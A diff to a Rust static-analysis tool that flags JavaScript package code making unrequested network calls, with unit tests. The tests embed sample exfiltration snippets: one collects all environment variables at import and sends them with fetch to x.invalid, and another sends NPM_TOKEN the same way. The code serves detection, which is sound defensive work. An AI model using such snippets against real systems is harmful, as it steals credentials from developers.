@@ -1,7 +1,8 @@
 //! What reading the code leaves open, and whether running it is worth while.
 
-use stockade_model::Trigger;
+use stockade_model::{Capability, Trigger};
 
+use crate::api;
 use crate::command::CommandOrigin;
 use crate::facts::Facts;
 use crate::flow::FlowFact;
@@ -30,6 +31,7 @@ impl Facts<'_> {
         let is_worth_a_proof = self.starts_own_program()
             || self.concealments.iter().any(|concealment| concealment.trigger.runs_unasked())
             || self.has_unasked_layer()
+            || self.talks_unasked()
             || self.effects.flows.iter().any(carries)
             || self.effects.given_names.values().any(|name| !name.is_read && name.trigger.runs_unasked());
         is_worth_a_proof.then_some(Question::Proof)
@@ -49,6 +51,15 @@ impl Facts<'_> {
         })
     }
 
+    /// Whether the network is used where nobody asked: what goes there may take a way that the analysis does not
+    /// follow.
+    fn talks_unasked(&self) -> bool {
+        self.effects.calls.iter().any(|call| {
+            let capability = api::find(&call.api).and_then(|api| api.effect.capability());
+            call.trigger.runs_unasked() && capability == Some(Capability::Network)
+        })
+    }
+
     /// Whether code that nobody asked for made code that acts.
     fn has_unasked_layer(&self) -> bool {
         let is_layer =
@@ -62,4 +73,40 @@ fn carries(flow: &FlowFact) -> bool {
     flow.trigger.runs_unasked()
         && (flow.source.is_secret() && flow.sink.leaves_machine()
             || matches!(flow.source, Source::Network(_) | Source::Decoded) && !flow.sink.leaves_machine())
+}
+
+#[cfg(test)]
+mod tests {
+    use stockade_model::Limits;
+
+    use super::*;
+    use crate::imported::imported;
+    use crate::{Context, gather};
+
+    fn question(script: &str) -> Option<Question> {
+        let tree = imported(script);
+        let context = Context::default();
+        gather(&tree, &context, &Limits::default()).question()
+    }
+
+    #[test]
+    fn plain_code_leaves_no_question() {
+        assert_eq!(question("exports.pad = (text) => text.padStart(8);"), None);
+        assert_eq!(question("exports.get = (url) => fetch(url);"), None);
+    }
+
+    #[test]
+    fn a_network_at_import_is_worth_a_proof() {
+        let script = "const found = Object.keys(process.env).map((name) => process.env[name]);\n\
+                      const url = new URL('https://x.invalid'); helper(url, found); fetch(url);";
+        assert_eq!(question(script), Some(Question::Proof));
+    }
+
+    #[test]
+    fn a_network_that_a_caller_asks_for_leaves_none() {
+        assert_eq!(
+            question("exports.send = () => fetch('https://x.invalid/' + process.env.NPM_TOKEN);"),
+            None
+        );
+    }
 }
